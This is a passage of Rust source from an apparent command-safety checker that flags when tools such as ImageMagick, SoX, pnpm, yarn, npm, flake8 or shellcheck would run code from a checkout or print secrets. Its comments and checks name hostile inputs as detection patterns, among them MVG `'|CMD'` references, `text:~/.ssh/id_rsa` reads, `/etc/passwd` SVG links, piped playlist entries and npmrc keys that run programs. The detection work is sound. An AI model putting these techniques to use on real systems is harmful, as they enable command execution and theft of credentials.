                "hledger's journals include more files than are looked at: one may include a secret".to_owned(),
            );
        }
        let Some(text) = head_of(w, &f, 4 << 20) else {
            continue;
        };
        let base = f.parent().unwrap_or(dir).to_path_buf();
        for line in text.lines() {
            let l = line.trim_start();
            let Some(rest) = l
                .strip_prefix("!include")
                .or_else(|| l.strip_prefix("include"))
                .filter(|r| r.starts_with([' ', '\t']))
            else {
                continue;
            };
            let value = without_format_prefix(rest.trim());
            // The whole rest of the line, and each word of it (a comment after the path).
            let named = std::iter::once(value)
                .chain(value.split_whitespace())
                .map(|v| v.trim_matches(['"', '\'']))
                .find(|v| include_may_be_secret(v, &base));
            if let Some(named) = named {
                return Some(format!(
                    "`{}` includes `{named}`, a secret: hledger would parse it as a journal and quote it in the error",
                    f.display()
                ));
            }
            if !value.contains(['*', '?', '[']) {
                queue.push(resolve(value, &base));
            }
        }
    }
    None
}

/// A path without the reader prefix hledger accepts before it (`csv:`, `timedot:`).
fn without_format_prefix(v: &str) -> &str {
    match v.split_once(':') {
        Some((p, rest)) if p.len() > 1 && p.bytes().all(|b| b.is_ascii_lowercase()) => rest,
        _ => v,
    }
}

/// flex reads `%option` lines of its scanner as options: `header-file="F"` (`header`) writes
/// a header to F, `tables-file` the tables, and `outfile` names the scanner's file, whatever
/// the line says (`-t` keeps the scanner on standard output, not the other files). The
/// scanners named on the line and given with `<` are read; one the line writes, or a scanner
/// read from a pipe or a here-document, may say anything.
fn flex_options_write(u: &Unit, dir: &Path, w: &LineWrites) -> Option<String> {
    let spec = crate::programs::tables::builtin("flex").unwrap_or_default();
    let parsed = crate::programs::args::parse(Some(&spec), &u.argv);
    let mut inputs: Vec<PathBuf> = Vec::new();
    for &i in &parsed.operands {
        match u.argv.get(i).and_then(|a| a.value.as_deref()) {
            Some("-") => {}
            Some(t) => inputs.push(resolve(t, dir)),
            None => {
                return Some(
                    "flex reads a scanner named at run time, whose `%option` lines may name files it writes".to_owned(),
                );
            }
        }
    }
    let stdin_used = inputs.is_empty()
        || parsed
            .operands
            .iter()
            .any(|&i| u.argv.get(i).and_then(|a| a.value.as_deref()) == Some("-"));
    if stdin_used {
        match u.redirects.iter().rev().find(|r| r.op == "<") {
            Some(r) => match r.target.as_deref() {
                Some(t) => inputs.push(resolve(t, dir)),
                None => {
                    return Some(
                        "flex reads a scanner named at run time, whose `%option` lines may name files it writes".to_owned(),
                    );
                }
            },
            None => {
                return Some(
                    "flex reads the scanner from its input, whose `%option` lines may name files it writes (`header-file=`, `tables-file`)".to_owned(),
                );
            }
        }
    }
    inputs.into_iter().find_map(|f| {
        let writes = w.has(&f)
            || head_of(w, &f, 4 << 20).is_some_and(|t| {
                t.lines().any(|l| {
                    let l = l.trim_start();
                    l.starts_with("%option")
                        && ["header", "tables", "outfile"]
                            .iter()
                            .any(|k| l.contains(k))
                })
            });
        writes.then(|| {
            format!(
                "`{}` holds `%option` lines that name files flex writes (`header-file=`, `tables-file`, `outfile=`), or is written by the line",
                f.display()
            )
        })
    })
}

/// Why a Node CLI of [`JS_CONFIG_FIRST`], run in `dir`, would import a JavaScript file of the
/// checkout before it reads its options.
fn js_config_first(
    u: &Unit,
    base: &str,
    dir: &Path,
    root: &Path,
    w: &LineWrites,
) -> Option<String> {
    let (_, files, parents) = JS_CONFIG_FIRST
        .iter()
        .find(|(names, _, _)| names.contains(&base))?;
    if base.starts_with("sequelize") && u.args().map(text).any(|a| a.starts_with("--options-path"))
    {
        return Some(
            "`--options-path` names a file sequelize loads (runs) as JavaScript at start"
                .to_owned(),
        );
    }
    let dirs: Vec<&Path> = if *parents {
        project_dirs(dir, root).collect()
    } else {
        vec![dir]
    };
    dirs.iter()
        .flat_map(|d| files.iter().map(|f| d.join(f)))
        .find(|f| w.has(f) || w.cx.look.exists(f))
        .map(|f| {
            format!(
                "`{}` is JavaScript `{base}` loads (runs) before it reads its options, `--version` included",
                f.display()
            )
        })
}

/// Whether the path a configuration of the checkout names (relative to `base`, `~` expanded,
/// links followed) is a secret, a directory of secrets, or a glob inside one
/// (`/root/.ssh/*`).
fn names_secret(value: &str, base: &Path) -> bool {
    if value.is_empty() {
        return false;
    }
    let p = resolve(value, base);
    crate::files::is_secret(&p)
        || crate::files::is_secret_dir(&p)
        || value.contains(['*', '?', '[']) && p.parent().is_some_and(crate::files::is_secret_dir)
}

/// The names `SCons` looks for its project file under.
const SCONSTRUCT_NAMES: [&str; 6] = [
    "SConstruct",
    "Sconstruct",
    "sconstruct",
    "SConstruct.py",
    "Sconstruct.py",
    "sconstruct.py",
];

/// The static operands of `u` (words not starting with `-`), resolved from `dir`.
fn static_operands<'a>(u: &'a Unit, dir: &'a Path) -> impl Iterator<Item = PathBuf> + 'a {
    u.args()
        .filter_map(|a| a.value.as_deref())
        .filter(|t| !t.starts_with(['-', '+']) && !t.is_empty())
        .map(move |t| resolve(t, dir))
}

/// The first `limit` bytes of `f` as text (lossy), or `None` when it cannot be read.
fn head_of(w: &LineWrites, f: &Path, limit: u64) -> Option<String> {
    use std::io::Read;
    if !w.cx.look.is_file(f) {
        return None;
    }
    let mut head = Vec::new();
    let file = std::fs::File::open(f).ok()?;
    file.take(limit).read_to_end(&mut head).ok()?;
    Some(String::from_utf8_lossy(&head).into_owned())
}

/// `SoX` reads an operand named `*.m3u` or `*.pls` as a playlist and opens every entry as it
/// opens a file name of the line: `|CMD` through `popen()`, a URL through wget run by a
/// shell. A playlist of the checkout with such an entry (or one the line writes) is flagged;
/// one listing plain files is not.
fn sox_playlist(u: &Unit, dir: &Path, w: &LineWrites) -> Option<String> {
    static_operands(u, dir)
        .filter(|f| {
            f.extension()
                .and_then(|e| e.to_str())
                .is_some_and(|e| e.eq_ignore_ascii_case("m3u") || e.eq_ignore_ascii_case("pls"))
        })
        .find(|f| {
            w.has_before(f, u)
                || head_of(w, f, 64 * 1024).is_some_and(|t| {
                    t.lines().any(|l| {
                        // A `.pls` entry is `FileN=NAME`.
                        let entry = match l.trim().split_once('=') {
                            Some((k, v)) if k.to_ascii_lowercase().starts_with("file") => v,
                            _ => l.trim(),
                        };
                        entry.starts_with('|') || entry.contains("://")
                    })
                })
        })
        .map(|f| {
            format!(
                "`{}` is a playlist whose entries SoX opens: a `|command` entry runs, a URL is fetched through a shell",
                f.display()
            )
        })
}

/// `ImageMagick` reads a file by what it holds: one starting with `viewbox` is an MVG drawing
/// whatever its name, and `.mvg`, `.msl` and `.svg` files are drawings or scripts by their
/// extension. An MVG or SVG drawing names other images to read (`image over 0,0 0,0
/// '|CMD'` runs CMD, `text:~/.ssh/id_rsa` renders the file), and MSL writes files. A file
/// of the checkout (or one the line writes) that is such a drawing with a reference to
/// another file, or an MSL script, is flagged; an SVG whose references are all fragments
/// (`#id`) or inline data is not.
fn image_script(u: &Unit, dir: &Path, w: &LineWrites) -> Option<String> {
    static_operands(u, dir)
        .find(|f| {
            if w.has_before(f, u) {
                return true;
            }
            let ext = f
                .extension()
                .and_then(|e| e.to_str())
                .map(str::to_ascii_lowercase);
            let Some(text) = head_of(w, f, 64 * 1024) else {
                return false;
            };
            let start = text.trim_start_matches('\u{feff}').trim_start();
            let mvg = start.starts_with("viewbox")
                || start.starts_with("push graphic-context")
                || ext.as_deref() == Some("mvg");
            let svg = ext.as_deref().is_some_and(|e| e == "svg" || e == "svgz")
                || start.starts_with("<?xml")
                || start.starts_with("<svg");
            ext.as_deref() == Some("msl")
                || mvg
                || svg && (text.contains("<!ENTITY") || svg_references_file(&text))
                || postscript(f, ext.as_deref(), &text)
        })
        .map(|f| {
            format!(
                "`{}` is a drawing or program ImageMagick interprets or hands on (MVG, MSL, SVG, PostScript): it names other files to read (`|command` ones run) or to write, or Ghostscript runs it",
                f.display()
            )
        })
}

/// Whether `ImageMagick` (and `GraphicsMagick`) read `f` as PostScript, which they hand to
/// Ghostscript to run: by its magic (`%!`, `^D%!`, the DOS EPS header `C5 D0 D3 C6`) or, when
/// the content says nothing else, by its extension. PostScript is a program: under `-dSAFER`
/// it still reads files and has had one way out of that sandbox after another.
fn postscript(f: &Path, ext: Option<&str>, text: &str) -> bool {
    use std::io::Read;
    if matches!(
        ext,
        Some("ps" | "eps" | "epsf" | "epsi" | "epi" | "ept" | "ps2" | "ps3")
    ) || text.starts_with("%!")
        || text.starts_with("\u{4}%!")
    {
        return true;
    }
    let mut magic = [0u8; 4];
    std::fs::File::open(f)
        .and_then(|mut file| file.read_exact(&mut magic))
        .is_ok_and(|()| magic == [0xC5, 0xD0, 0xD3, 0xC6])
}

/// `apptainer inspect`/`run-help` given an image that exists (or that the line writes first):
/// which kind of image it is, and whether its inspect metadata parses, decides whether
/// apptainer runs the image's shell, so any image there counts.
fn apptainer_image(u: &Unit, dir: &Path, w: &LineWrites) -> Option<String> {
    let mut words = u.args().map(text);
    let verb = words.find(|a| !a.starts_with('-'))?;
    if !matches!(verb, "inspect" | "run-help") {
        return None;
    }
    static_operands(u, dir)
        .skip(1)
        .find(|f| w.has_before(f, u) || w.cx.look.exists(f))
        .map(|f| {
            format!(
                "`{}` is an image `apptainer {verb}` may run: a single-file image without readable inspect metadata is inspected through its own /bin/sh",
                f.display()
            )
        })
}

/// Whether an SVG text refers to a resource other than a fragment of itself or inline data
/// (`href="file.png"`, `xlink:href='text:/etc/passwd'`, `url(http://…)`).
fn svg_references_file(text: &str) -> bool {
    let values = text
        .match_indices("href=")
        .filter_map(|(at, m)| text.get(at + m.len()..))
        .map(|v| v.trim_start_matches(['"', '\'']))
        .chain(
            text.match_indices("url(")
                .filter_map(|(at, m)| text.get(at + m.len()..))
                .map(|v| v.trim_start_matches(['"', '\'', ' '])),
        );
    values
        .map(str::trim_start)
        .any(|v| !v.starts_with('#') && !v.starts_with("data:"))
}

/// Whether the file's first KiB is a playlist or stream description that `FFmpeg` probes (HLS's
/// `#EXTM3U`, DASH's `<MPD`, SDP's `v=0`, `ffconcat`); with `any_xml`, any XML document too
/// (mediainfo's reference-file formats: DASH, Smooth Streaming, HDS, DCP and IMF packages).
fn media_list_head(f: &Path, any_xml: bool) -> bool {
    use std::io::Read;
    let mut head = Vec::with_capacity(1024);
    let Ok(file) = std::fs::File::open(f) else {
        return false;
    };
    if file.take(1024).read_to_end(&mut head).is_err() {
        return false;
    }
    let text = String::from_utf8_lossy(&head);
    let start = text.trim_start_matches('\u{feff}').trim_start();
    start.starts_with("#EXTM3U")
        || start.starts_with("ffconcat")
        || start.starts_with("v=0")
        || text.contains("<MPD")
        || any_xml && start.starts_with('<')
}

/// The most directory entries [`helm_chart_link`] looks at in one chart.
const CHART_WALK_LIMIT: usize = 4096;

/// A symbolic link under `dir` (not through a linked directory) that leads to a secret, or
/// into a directory of secrets; an entry whose type cannot be read counts as one. With
/// `walks_links`, for a reader whose walk goes on through a linked directory (helm's), a link to
/// a directory that holds secrets further down counts too: the home or a directory above it
/// (`up` → `../..` from a checkout in the home), a root, `/etc`, a directory of the home holding
/// a file of secrets (`~/.config`). `budget` counts the entries looked at down to 0 (then the
/// walk stops and finds nothing).
fn secret_link_under(dir: &Path, budget: &mut usize, walks_links: bool) -> Option<PathBuf> {
    let entries = match std::fs::read_dir(dir) {
        Ok(entries) => entries,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return None,
        Err(_) => return Some(dir.to_path_buf()),
    };
    for e in entries {
        if *budget == 0 {
            return None;
        }
        *budget -= 1;
        let Ok(e) = e else {
            return Some(dir.to_path_buf());
        };
        let path = e.path();
        match e.file_type() {
            Ok(t) if t.is_symlink() => {
                let leads = std::fs::canonicalize(&path).map_or(true, |target| {
                    crate::files::is_secret(&target)
                        || crate::files::is_secret_dir(&target)
                        || walks_links
                            && target.is_dir()
                            && super::common::holds_secrets(&target.to_string_lossy())
                });
                if leads {
                    return Some(path);
                }
            }
            Ok(t) if t.is_dir() => {
                if let Some(l) = secret_link_under(&path, budget, walks_links) {
                    return Some(l);
                }
            }
            Ok(_) => {}
            Err(_) => return Some(path),
        }
    }
    None
}

/// The operands of `u` as the engine reads them to choose an allow (`Policy::parse_unit`):
/// with the program's table, and after the subcommand words with the subcommand's own table
/// when the catalogue has one. A value of an option is never taken for a subcommand word:
/// `uv --color never pip list` is `pip list`, `helm lint -f values.yaml` lints the working
/// directory, `yarn --network-timeout 5 list` runs `list`.
fn operand_words<'a>(u: &'a Unit, program: &str) -> Vec<&'a str> {
    use crate::programs::{args, tables};
    let global = tables::builtin(program);
    let mut parsed = args::parse(global.as_ref(), &u.argv);
    let words: Vec<&str> = parsed
        .operands
        .iter()
        .take(3)
        .filter_map(|&i| u.argv.get(i).map(text))
        .collect();
    for k in (1..=words.len()).rev() {
        let key = format!("{program} {}", words[..k].join(" "));
        if let Some(sub) = tables::builtin(&key) {
            let split = parsed.operands[k - 1];
            parsed = args::parse_subcommand(global.as_ref(), &sub, &u.argv, split);
            break;
        }
    }
    parsed
        .operands
        .iter()
        .filter_map(|&i| u.argv.get(i).map(text))
        .collect()
}

/// A verb of uv or poetry that looks at the project's environment (and so runs its
/// interpreter): `uv pip …`, `uv python find`, `uv tree`, `uv run`, `uv sync`; poetry's
/// commands but those that touch no environment (`--version`, `config`, `search`, `source`,
/// `self`, `list`, `about`, `help`).
fn venv_verb(base: &str, u: &Unit) -> bool {
    let mut words = operand_words(u, base);
    words.truncate(2);
    match base {
        "uv" => matches!(
            words[..],
            [
                "pip" | "tree" | "run" | "sync" | "export" | "venv" | "add" | "remove" | "lock",
                ..
            ] | ["python", "find" | "pin", ..]
        ),
        _ => {
            !words.is_empty()
                && !matches!(
                    words[0],
                    "config" | "search" | "source" | "self" | "list" | "about" | "help"
                )
        }
    }
}

/// Whether a `.python-version` text holds only version requests that uv reads as versions
/// before it tries them as a path or a program name: a version (`3.12`, `3.13.0rc1`, `3.13t`,
/// `3.12+debug`), version specifiers (`>=3.11,<3.13`), an implementation with or without a
/// version (`cpython`, `pypy@3.10`, `cp312`, `python3.12`), `any` or `default`. Blank lines
/// and `#` comments say nothing. Anything else (`./tools/py`, `env`, `3x`) can name a file, a
/// directory or a program.
fn python_versions_only(text: &str) -> bool {
    /// `3`, `3.12`, `3.12.1`, a pre-release `3.13.0rc1`, a variant `3.13t`, `3.12d`,
    /// `3.13+freethreaded`.
    fn version(v: &str) -> bool {
        let (v, variant) = v.split_once('+').unwrap_or((v, ""));
        if !variant.is_empty()
            && !variant
                .split('+')
                .all(|x| matches!(x, "freethreaded" | "debug" | "gil"))
        {
            return false;
        }
        let v = v.strip_suffix(['t', 'd']).unwrap_or(v);
        let v = ["rc", "a", "b"]
            .iter()
            .find_map(|p| {
                let (head, n) = v.rsplit_once(p)?;
                (!n.is_empty() && n.bytes().all(|c| c.is_ascii_digit())).then_some(head)
            })
            .unwrap_or(v);
        let parts: Vec<&str> = v.split('.').collect();
        parts.len() <= 3
            && parts
                .iter()
                .all(|p| !p.is_empty() && p.bytes().all(|c| c.is_ascii_digit()))
    }
    /// `>=3.11`, `==3.12.*`, `~=3.10`, or a plain version.
    fn specifier(s: &str) -> bool {
        let s = s.trim();
        let rest = ["===", "==", "!=", "~=", ">=", "<=", ">", "<"]
            .iter()
            .find_map(|op| s.strip_prefix(op))
            .unwrap_or(s)
            .trim();
        version(rest.strip_suffix(".*").unwrap_or(rest))
    }
    fn request(r: &str) -> bool {
        let lower = r.to_ascii_lowercase();
        if matches!(lower.as_str(), "any" | "default") {
            return true;
        }
        let rest = ["cpython", "graalpy", "python", "pypy", "cp", "pp", "gp"]
            .iter()
            .find_map(|i| lower.strip_prefix(i))
            .unwrap_or(&lower);
        let rest = rest.strip_prefix('@').unwrap_or(rest);
        (rest.is_empty() && rest.len() < lower.len())
            || !rest.is_empty() && rest.split(',').all(specifier)
    }
    text.lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .all(request)
}

/// A verb of poetry or uv that asks the package sources about newer versions: `poetry show`
/// with `--outdated`/`--latest` (`-o`, `-l`, also in a bundle), `uv pip list --outdated`,
/// `uv pip tree --outdated`.
fn queries_sources(base: &str, u: &Unit) -> bool {
    let words = operand_words(u, base);
    let has = |long: &[&str], short: &[char]| {
        u.args().map(text).any(|a| {
            long.contains(&a)
                || !a.starts_with("--")
                    && a.strip_prefix('-')
                        .is_some_and(|b| b.chars().any(|c| short.contains(&c)))
        })
    };
    match (base, &words[..]) {
        ("poetry", ["show", ..]) => has(&["--outdated", "--latest"], &['o', 'l']),
        ("uv", ["pip", "list" | "tree", ..]) => has(&["--outdated"], &[]),
        _ => false,
    }
}

/// Whether a `package.json`'s `packageManager` is absent or a release by its version
/// (`pnpm@9.1.0`, `yarn@4.2.2+sha512.…`): a name of corepack's and a semantic version, with an
/// optional hash. Text that is not JSON, or a field that is not a string, counts as neither.
fn package_manager_is_a_release(text: &str) -> bool {
    let Ok(serde_json::Value::Object(m)) = serde_json::from_str::<serde_json::Value>(text) else {
        return false;
    };
    let Some(v) = m.get("packageManager") else {
        return true;
    };
    let Some((name, spec)) = v.as_str().and_then(|v| v.split_once('@')) else {
        return false;
    };
    let (version, hash) = spec.split_once('+').unwrap_or((spec, ""));
    let (core, pre) = version.split_once('-').unwrap_or((version, ""));
    let numbers = core.split('.').collect::<Vec<_>>();
    matches!(name, "npm" | "pnpm" | "yarn")
        && numbers.len() == 3
        && numbers
            .iter()
            .all(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()))
        && pre
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-')
        && hash.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'.')
}

/// Why pnpm, run in `dir`, would run a pnpm release fetched from a registry the checkout
/// names. pnpm runs the release the project asks for before any command (`packageManager:
/// "pnpm@…"` while `managePackageManagerVersions` is on, the default since pnpm 10;
/// `devEngines.packageManager` with `onFail: "download"` since pnpm 11), downloaded from the
/// registry it is configured with: a `registry` (or `@pnpm:registry`, `registries`) in the
/// project's `.npmrc` or `pnpm-workspace.yaml` makes that release whatever the host serves. A
/// `package.json` that cannot be read as JSON, and files the line writes, count as asking.
fn pnpm_release_from_checkout_registry(dir: &Path, root: &Path, w: &LineWrites) -> Option<String> {
    let wants = project_dirs(dir, root)
        .map(|d| d.join("package.json"))
        .any(|f| {
            w.has(&f)
                || w.cx.look.read_to_string(&f).is_ok_and(|t| {
                    let Ok(serde_json::Value::Object(m)) = serde_json::from_str(&t) else {
                        return true;
                    };
                    m.get("packageManager")
                        .is_some_and(|v| v.as_str().is_none_or(|v| v.starts_with("pnpm")))
                        || m.get("devEngines")
                            .is_some_and(|e| e.get("packageManager").is_some())
                })
        });
    if !wants {
        return None;
    }
    let names_registry = |t: &str| {
        t.lines().any(|l| {
            let l = l
                .trim_start()
                .trim_start_matches(['"', '\''])
                .to_ascii_lowercase();
            ["registry", "@pnpm:registry", "registries"]
                .iter()
                .any(|k| l.starts_with(k))
        })
    };
    project_dirs(dir, root)
        .flat_map(|d| [".npmrc", "pnpm-workspace.yaml"].map(|f| d.join(f)))
        .find(|f| w.has(f) || w.cx.look.read_to_string(f).is_ok_and(|t| names_registry(&t)))
        .map(|f| {
            format!(
                "`{}` names the registry pnpm fetches the pnpm release the project asks for (`packageManager`, `devEngines`) from, and pnpm runs that release before any command",
                f.display()
            )
        })
}

/// `pnpm -v`, `pnpm --version` (and npm's): answered before the configuration is read.
fn pnpm_version_only(u: &Unit) -> bool {
    let mut args = u.args().map(text);
    matches!((args.next(), args.next()), (Some("-v" | "--version"), None))
}

/// Why yarn, run in `dir`, would run a release or plugins named by the checkout's `.yarnrc`
/// files (`yarnPath`, `plugins`, `yarn-path`).
fn yarn_release(dir: &Path, root: &Path, w: &LineWrites) -> Option<String> {
    project_dirs(dir, root).find_map(|d| {
        let yml = d.join(".yarnrc.yml");
        let rc = d.join(".yarnrc");
        let names = |f: &Path, key: &str| {
            w.has(f)
                || w.cx.look.read_to_string(f).is_ok_and(|t| {
                    t.lines()
                        .any(|l| l.trim_start().trim_start_matches('"').starts_with(key))
                })
        };
        // Yarn 1 takes the release from `yarn-path` or `yarnPath` of `.yarnrc` (and from
        // `yarnPath` of `.yarnrc.yml`, which it reads too).
        (names(&yml, "yarnPath")
            || names(&yml, "plugins")
            || names(&rc, "yarn-path")
            || names(&rc, "yarnPath"))
        .then(|| {
            format!(
                "`{}` sets the yarn release or plugins to run: files of the checkout",
                d.display()
            )
        })
    })
}

/// Why `yarn VERB`, run in `dir`, would run a script of the checkout: yarn 2 and later run the
/// `package.json` script named VERB for any VERB that is not one of their own commands, and
/// `list`, `outdated`, `audit` and `info`, yarn 1 commands, are none of theirs. The nearest
/// `package.json` decides (or one the line writes).
fn yarn_script(u: &Unit, dir: &Path, root: &Path, w: &LineWrites) -> Option<String> {
    let verb = *operand_words(u, "yarn").first()?;
    let manifest = project_dirs(dir, root)
        .map(|d| d.join("package.json"))
        .find(|f| w.has(f) || w.cx.look.is_file(f))?;
    let named = w.has(&manifest)
        || w.cx
            .look
            .read_to_string(&manifest)
            .ok()
            .and_then(|t| serde_json::from_str::<serde_json::Value>(&t).ok())
            .is_some_and(|v| v.get("scripts").and_then(|s| s.get(verb)).is_some());
    named.then(|| {
        format!(
            "`{}` has a script named `{verb}`, which yarn 2 and later run for `yarn {verb}`",
            manifest.display()
        )
    })
}

/// Whether an `.npmrc` sets a key that names a program npm runs or code node loads, or
/// another file npm reads as its configuration: `userconfig` and `globalconfig` name it, and
/// `prefix` moves the global one (`PREFIX/etc/npmrc`), whose settings npm takes as if the
/// person had made them. npm's ini reader takes a quoted key (`"browser"=./x`) as the key.
fn npmrc_runs(text: &str) -> bool {
    text.lines().map(str::trim).any(|l| {
        let key = l
            .split('=')
            .next()
            .unwrap_or("")
            .trim()
            .trim_matches(['"', '\''])
            .to_ascii_lowercase()
            .replace('_', "-");
        matches!(
            key.as_str(),
            "browser"
                | "viewer"
                | "editor"
                | "shell"
                | "script-shell"
                | "node-options"
                | "git"
                | "init-module"
                | "onload-script"
                | "userconfig"
                | "globalconfig"
                | "prefix"
        )
    })
}

/// Whether a package manager's rc file (`.npmrc`, `.yarnrc`, `.yarnrc.yml`, `bunfig.toml`)
/// expands an environment variable into a value (`${NPM_TOKEN}`; bunfig's `$NPM_TOKEN`), or
/// sends the requests through a proxy, with TLS checks off, or trusting a certificate
/// authority it names (`https-proxy`, `strict-ssl`, `cafile`; yarn's `httpsProxy`,
/// `enableStrictSsl`, `caFilePath`), or that names another file to read as configuration,
/// whose settings are not seen here (`.npmrc`'s `userconfig`, `globalconfig`, `prefix`, which
/// moves the global one, and pnpm's `npmrc-auth-file`). A comment line counts for nothing.
fn registry_config_sends(text: &str) -> bool {
    text.lines().map(str::trim).any(|l| {
        if l.starts_with(['#', ';']) || public_registry_credential(l) {
            return false;
        }
        // npm expands variables in keys too (`//host/${X}:_authToken=…`).
        let b = l.as_bytes();
        let value_expands = l.match_indices('$').any(|(at, _)| {
            b.get(at + 1)
                .is_some_and(|c| *c == b'{' || c.is_ascii_alphabetic() || *c == b'_')
        });
        let key = l
            .split(['=', ':'])
            .next()
            .unwrap_or("")
            .trim()
            .trim_matches(['"', '\''])
            .to_ascii_lowercase()
            .replace(['_', '-'], "");
        value_expands
            || matches!(
                key.as_str(),
                "proxy"
                    | "httpproxy"
                    | "httpsproxy"
                    | "strictssl"
                    | "enablestrictssl"
                    | "ca"
                    | "cafile"
                    | "cafilepath"
                    | "httpscafilepath"
                    | "httpcafilepath"
                    | "userconfig"
                    | "globalconfig"
                    | "prefix"
                    | "npmrcauthfile"
            )
    })
}

/// An `.npmrc` credential line for a public registry (`//registry.npmjs.org/:_authToken=
/// ${NPM_TOKEN}`): the variable goes to the registry it is meant for, not to a host the
/// checkout chose.
fn public_registry_credential(line: &str) -> bool {
    line.strip_prefix("//")
        .and_then(|r| r.split_once('/'))
        .is_some_and(|(host, rest)| {
            matches!(
                host.to_ascii_lowercase().as_str(),
                "registry.npmjs.org" | "registry.yarnpkg.com" | "npm.pkg.github.com"
            ) && rest.split_once('=').is_some_and(|(k, _)| {
                // The value is the credential; a key that expands a variable itself does not
                // count (`//registry.npmjs.org/${X}:_authToken=…`).
                !k.contains('$') && k.starts_with(':')
            })
        })
}

/// `pulumi version`, `pulumi gen-completion`, `pulumi help` and help requests: answered
/// without logging in to a backend.
fn pulumi_offline(u: &Unit) -> bool {
    u.args()
        .map(text)
        .any(|w| matches!(w, "-h" | "--help" | "--version"))
        || matches!(
            operand_words(u, "pulumi").first().copied(),
            None | Some("version" | "gen-completion" | "help")
        )
}

/// flake8 and pycodestyle take `filename` from their configuration section as the line's
/// `--filename`: the patterns of the files they read in the trees they walk. Any pattern beyond
/// the Python sources' (`*`, `.e*`) makes them read other files, hidden ones included, whose
/// lines `show-source` (also a configuration key) prints: `.env` among them. A project file
/// that sets one (or that the line writes) is named; help and version requests read no file.
fn lint_config_widens(
    u: &Unit,
    dir: &Path,
    root: &Path,
    w: &LineWrites,
    files: &[&str],
    sections: &[&str],
) -> Option<String> {
    if u.args()
        .map(text)
        .any(|a| matches!(a, "-h" | "--help" | "--version"))
    {
        return None;
    }
    project_dirs(dir, root)
        .flat_map(|d| files.iter().map(move |f| d.join(f)))
        .find(|f| file_says(w, f, &|t| config_filename_widens(t, sections)))
        .map(|f| {
            format!(
                "`{}` sets `filename` to patterns beyond Python sources: every file they match is read and its lines may be printed (`show-source`)",
                f.display()
            )
        })
}

/// Whether an INI file's section among `sections` sets `filename` (`_` and `-` alike) to a
/// pattern other than the Python sources' (`*.py`, `*.pyi`, `*.pyw`, `*.pyx`, `*.pxd`,
/// `*.pxi`), comma or line separated (a value continued on indented lines counts).
fn config_filename_widens(text: &str, sections: &[&str]) -> bool {
    const PYTHON: [&str; 6] = ["*.py", "*.pyi", "*.pyw", "*.pyx", "*.pxd", "*.pxi"];
    let mut inside = false;
    let mut value: Option<String> = None;
    let widens = |v: &str| {
        v.split([',', ' ', '\t'])
            .map(str::trim)
            .filter(|p| !p.is_empty())
            .any(|p| !PYTHON.contains(&p))
    };
    for raw in text.lines() {
        let line = raw.trim();
        let continued = raw.starts_with([' ', '\t']) && !line.is_empty();
        if let Some(v) = value.as_mut() {
            if continued && !line.starts_with(['#', ';']) {
                v.push(',');
                v.push_str(line);
                continue;
            }
            if widens(v) {
                return true;
            }
            value = None;
        }
        if let Some(h) = line.strip_prefix('[') {
            let name = h.trim_end_matches(']').trim().to_ascii_lowercase();
            inside = sections.contains(&name.as_str());
            continue;
        }
        if !inside || line.starts_with(['#', ';']) {
            continue;
        }
        let Some((key, v)) = line.split_once(['=', ':']) else {
            continue;
        };
        if key.trim().to_ascii_lowercase().replace('_', "-") == "filename" {
            value = Some(v.to_owned());
        }
    }
    value.is_some_and(|v| widens(&v))
}

/// Whether an INI or TOML file's codespell section (`[codespell]`, `[tool.codespell]`) has a
/// key that codespell reads as `--write-changes` or `--interactive` (argparse takes any unique
/// prefix: `w`, `write`, `in`, `inter`…). Read line by line, so it works for both formats.
fn codespell_config_writes(text: &str) -> bool {
    let mut inside = false;
    for line in text.lines().map(str::trim) {
        if let Some(h) = line.strip_prefix('[') {
            let name = h.trim_end_matches(']').trim().trim_matches('"');
            inside = matches!(name, "codespell" | "tool.codespell");
            continue;
        }
        if !inside || line.starts_with(['#', ';']) {
            continue;
        }
        let key = line
            .split(['=', ':'])
            .next()
            .unwrap_or("")
            .trim()
            .trim_matches(['"', '\''])
            .to_ascii_lowercase()
            .replace('_', "-");
        if key.starts_with('w') || key.starts_with("in") {
            return true;
        }
    }
    false
}

/// shellcheck prints the findings of the files scripts `source` when it both follows a
/// `source` to any file (`-x`, `external-sources=true`) and reports on sourced files (`-a`,
/// `check-sourced=true`), with the offending lines: a script of the checkout that sources
/// `~/.env` or a key prints its lines. The settings come from the line and from the rc file
/// (`--rcfile FILE`, else `.shellcheckrc`/`shellcheckrc` in the directory or a parent inside
/// the workspace; not with `--norc`). An rc file the line writes, or that cannot be read,
/// counts as setting both.
fn shellcheck_prints_sources(u: &Unit, dir: &Path, root: &Path, w: &LineWrites) -> Option<String> {
    let args: Vec<&str> = u.args().map(text).collect();
    let (mut external, mut sourced, mut norc) = (false, false, false);
    let mut rcfile: Option<PathBuf> = None;
    let mut at = 0;
    while at < args.len() {
        let word = args[at];
        match word {
            "--" => break,
            "--external-sources" => external = true,
            "--check-sourced" => sourced = true,
            "--norc" => norc = true,
            "--rcfile" => {
                rcfile = args.get(at + 1).map(|f| resolve(f, dir));
                at += 1;
            }
            _ if word.starts_with("--rcfile=") => {
                rcfile = word.strip_prefix("--rcfile=").map(|f| resolve(f, dir));
            }
            _ if word.starts_with('-') && !word.starts_with("--") => {
                for c in word.chars().skip(1) {
                    match c {
                        'x' => external = true,
                        'a' => sourced = true,
                        // A letter that takes a value ends the bundle (the value follows).
                        'i' | 'e' | 'o' | 'f' | 'P' | 's' | 'S' | 'W' | 'C' => break,
                        _ => {}
                    }
                }
            }
            _ => {}
        }
        at += 1;
    }
    // shellcheck looks for the rc file from each script's directory up; the working directory
    // and every operand's directory stand for them.
    let starts: Vec<PathBuf> = std::iter::once(dir.to_path_buf())
        .chain(
            args.iter()
                .filter(|a| !a.starts_with('-'))
                .filter_map(|a| resolve(a, dir).parent().map(Path::to_path_buf)),
        )
        .collect();
    let rcs: Vec<PathBuf> = if norc {
        Vec::new()
    } else if let Some(f) = rcfile {
        vec![f]
    } else {
        starts
            .iter()
            .filter_map(|s| {
                project_dirs(s, root)
                    .flat_map(|d| [d.join(".shellcheckrc"), d.join("shellcheckrc")])
                    .find(|f| w.has(f) || w.cx.look.is_file(f))
            })
            .collect()
    };
    let both = rcs.iter().any(|f| {
        let (mut ext, mut src) = (external, sourced);
        match w.cx.look.read_to_string(f) {
            Ok(t) if !w.has(f) => {
